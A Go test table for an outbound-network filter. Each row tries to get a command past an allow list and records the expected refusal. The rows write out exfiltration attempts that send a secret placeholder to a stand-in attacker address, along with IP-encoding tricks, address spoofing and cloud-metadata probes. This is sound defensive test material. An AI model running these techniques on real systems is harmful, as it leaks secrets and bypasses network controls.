package egress

// refusedRows go where no rule allows. Each must be told so at once, with an
// error that programs know, and appear in the journal.
var refusedRows = []row{
	{
		id: "E-2", tries: "data in the first packet of a connection", rules: []string{"good.example.com:443"},
		run:  []string{"python3", "-c", "import socket\ntry: socket.socket().sendto(b'{secret}', socket.MSG_FASTOPEN, ('" + addressEvil + "', 7)); print('sent')\nexcept OSError as e: print(type(e).__name__)"},
		bare: "sent", boxed: "ConnectionRefusedError", refused: []string{"refused tcp " + addressEvil + ":7 allow " + addressEvil + ":7"},
	},
	{
		id: "E-2", tries: "an address as if it came from elsewhere", rules: []string{"good.example.com:443"},
		run:  []string{"python3", "-c", "import socket\ns = socket.socket(); s.setsockopt(socket.SOL_IP, 15, 1); s.bind(('192.168.77.2', 0))\ntry: s.connect(('" + addressEvil + "', 7)); print('connected')\nexcept OSError as e: print(type(e).__name__)"},
		bare: "connected", boxed: "ConnectionRefusedError", refused: []string{"refused tcp " + addressEvil + ":7 allow " + addressEvil + ":7"},
	},
	{
		id: "E-2", tries: "an address with a zone", rules: []string{"good.example.com:443"},
		run:  []string{"{probe}", "dial", "tcp", "[fe80::1%lo]:80", "[ff02::1%lo]:80", "[::ffff:0:0]:80"},
		bare: "~E", boxed: "ECONNREFUSED ENETUNREACH ECONNREFUSED", quiet: true,
		refused: []string{"refused tcp [fe80::1]:80", "refused tcp 127.0.0.1:80 allow 127.0.0.1:80"},
	},
	{
		id: "E-2", tries: "a virtual address that stands for nothing", rules: []string{"good.example.com:443"},
		run:  []string{"{probe}", "dial", "tcp", "29.77.99.99:443"},
		bare: "connected", boxed: "ECONNREFUSED", refused: []string{"refused tcp 29.77.99.99:443 allow 29.77.99.99:443|refused tcp 29.77.99.99:443"},
	},
	{
		id: "E12", tries: "anything, with an empty list",
		run:  []string{"{probe}", "dial", "tcp", "good.example.com:443", addressGood + ":443", "[" + addressSix + "]:443"},
		bare: "connected connected connected", boxed: "NXDOMAIN ECONNREFUSED ECONNREFUSED",
		refused: []string{"refused dns good.example.com allow good.example.com:443",
			"refused tcp " + addressGood + ":443 allow " + addressGood + ":443", "refused tcp [" + addressSix + "]:443 allow [" + addressSix + "]:443"},
	},
	{
		id: "E-2", tries: "the address of an allowed name", rules: []string{"good.example.com:443"},
		run:  []string{"{probe}", "dial", "tcp", addressGood + ":443"},
		bare: "connected", boxed: "ECONNREFUSED",
		refused: []string{"refused tcp " + addressGood + ":443 allow " + addressGood + ":443"},
	},
	{
		id: "E-2", tries: "addresses in two families", rules: []string{"good.example.com:443"},
		run:  []string{"{probe}", "dial", "tcp", "1.1.1.1:443", "[2606:4700:4700::1111]:443"},
		bare: "connected connected", boxed: "ECONNREFUSED ECONNREFUSED",
		refused: []string{"refused tcp 1.1.1.1:443 allow 1.1.1.1:443", "refused tcp [2606:4700:4700::1111]:443 allow [2606:4700:4700::1111]:443"},
	},
	{
		id: "E-2", tries: "an address in hexadecimal", rules: []string{"good.example.com:80"},
		run:  []string{"curl", "-sS", "http://0x01010101/{secret}"},
		bare: "~HTTP/1.1 http", boxed: "exit 7", refused: []string{"refused tcp 1.1.1.1:80 allow 1.1.1.1:80"},
	},
	{
		id: "E-2", tries: "an address as one decimal number", rules: []string{"good.example.com:80"},
		run:  []string{"python3", "-c", "import socket\ntry: socket.create_connection(('16843009', 80)); print('connected')\nexcept OSError as e: print(type(e).__name__)"},
		bare: "connected", boxed: "ConnectionRefusedError", refused: []string{"refused tcp 1.1.1.1:80 allow 1.1.1.1:80"},
	},
	{
		id: "E-2", tries: "an address in octal", rules: []string{"good.example.com:80"},
		run:  []string{"curl", "-sS", "http://0301.0001.0001.01/{secret}"},
		bare: "~HTTP/1.1 http", boxed: "exit 7", refused: []string{"refused tcp 193.1.1.1:80 allow 193.1.1.1:80"},
	},
	{
		id: "E-2", tries: "an address that IPv6 maps", rules: []string{"good.example.com:443"},
		run:  []string{"python3", "-c", "import socket\ntry: socket.socket(socket.AF_INET6).connect(('::ffff:1.1.1.1', 443)); print('connected')\nexcept OSError as e: print(type(e).__name__)"},
		bare: "connected", boxed: "ConnectionRefusedError", refused: []string{"refused tcp 1.1.1.1:443 allow 1.1.1.1:443"},
	},
	{
		id: "E-5", tries: "a service on the host's loopback", rules: []string{"good.example.com:443"},
		run:  []string{"{probe}", "dial", "tcp", "127.0.0.1:8001", "[::1]:8001", "0.0.0.0:8001", "localhost:8001"},
		bare: "connected connected connected connected", boxed: "ECONNREFUSED ECONNREFUSED ECONNREFUSED ECONNREFUSED",
		refused: []string{"refused tcp 127.0.0.1:8001 allow 127.0.0.1:8001", "?refused tcp [::1]:8001 allow [::1]:8001"},
	},
	{
		id: "E09", tries: "a service of the host's own addresses", rules: []string{"good.example.com:443"},
		run:  []string{"{probe}", "dial", "tcp", "{lan}:8002", "{card}:8003", "[{card6}]:8003", gateway + ":22"},
		bare: "connected connected connected connected", boxed: "ECONNREFUSED ECONNREFUSED ECONNREFUSED ECONNREFUSED",
		refused: []string{"refused tcp " + hostLAN + ":8002 allow " + hostLAN + ":8002", "refused tcp " + hostPublic + ":8003 allow " + hostPublic + ":8003",
			"refused tcp [" + hostV6 + "]:8003 allow [" + hostV6 + "]:8003", "refused tcp " + gateway + ":22 allow " + gateway + ":22"},
	},
	{
		id: "E-5", tries: "a service of the host's by way of a virtual address", rules: []string{"good.example.com:443"},
		run:  []string{"python3", "-c", "import socket\na = socket.getaddrinfo('good.example.com', 443)[0][4][0]\nfor p in (8001, 8003, 22):\n  try: socket.create_connection((a, p)); print('connected')\n  except OSError as e: print(type(e).__name__)"},
		bare: "ConnectionRefusedError ConnectionRefusedError connected", boxed: "ConnectionRefusedError ConnectionRefusedError ConnectionRefusedError",
		refused: []string{"refused tcp good.example.com:8001 allow good.example.com:8001", "refused tcp good.example.com:8003 allow good.example.com:8003",
			"refused tcp good.example.com:22 allow good.example.com:22"},
	},
	{
		id: "E08", tries: "metadata services", rules: []string{"good.example.com:443"},
		run: []string{"{probe}", "dial", "tcp", "169.254.169.254:80", "169.254.170.2:80", "100.100.100.200:80", "168.63.129.16:80",
			"[fd00:ec2::254]:80", "metadata.google.internal:80"},
		bare:  "connected connected connected connected connected connected",
		boxed: "ECONNREFUSED ECONNREFUSED ECONNREFUSED ECONNREFUSED ECONNREFUSED NXDOMAIN",
		refused: []string{"refused tcp 169.254.169.254:80", "refused tcp 169.254.170.2:80",
			"refused tcp 100.100.100.200:80", "refused tcp 168.63.129.16:80",
			"refused tcp [fd00:ec2::254]:80", "refused dns metadata.google.internal"},
	},
	{
		id: "E13", tries: "a redirect away from an allowed name", rules: []string{"good.example.com:80"},
		run:  []string{"curl", "-sSL", "http://good.example.com/redirect/evil.test"},
		bare: "HTTP/1.1 http evil.test", boxed: "exit 6", heard: https("good.example.com", "good:80"),
		refused: []string{"refused dns evil.test allow evil.test:443"},
	},
	{
		id: "E-9", tries: "datagrams", rules: []string{"good.example.com:443"},
		run:  []string{"sh", "-c", "{probe} say udp " + addressEvil + ":123 {secret}; {probe} say udp " + addressEvil + ":443 {secret}; {probe} say udp " + addressEvil + ":7 {secret}"},
		bare: "~s", boxed: "ECONNREFUSED ECONNREFUSED ECONNREFUSED",
		refused: []string{"refused udp " + addressEvil + ":123", "refused udp " + addressEvil + ":443", "refused udp " + addressEvil + ":7"},
	},
	{
		id: "E-9", tries: "datagrams from a socket without a peer, and to groups", rules: []string{"good.example.com:443"},
		run: []string{"python3", "-c", `import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
for a in ("` + addressEvil + `", "224.0.0.251", "192.168.77.255", "255.255.255.255"):
  try: s.sendto(b"{secret}", (a, 5353))
  except OSError: pass
print("sent")`},
		boxed: "sent", refused: []string{"refused udp " + addressEvil + ":5353", "?refused udp 192.168.77.255:5353"},
	},
	{
		id: "E-9", tries: "an echo request",
		run:  []string{"{probe}", "admin", "ping"},
		bare: "done", boxed: "EPROTONOSUPPORT|EACCES|EPERM",
	},
	{
		id: "E02", tries: "SCTP and other transports", rules: []string{"good.example.com:443"},
		run: []string{"python3", "-c", `import socket
for kind, proto in ((socket.SOCK_SEQPACKET, 132), (socket.SOCK_DGRAM, 136), (socket.SOCK_STREAM, 262), (socket.SOCK_RAW, 255)):
  try:
    socket.socket(socket.AF_INET, kind, proto).connect(("` + addressEvil + `", 443)); print("connected")
  except OSError as e: print("no")`},
		bare:  "n/a: which of them there are depends on the kernel",
		boxed: "no no no no",
	},
}
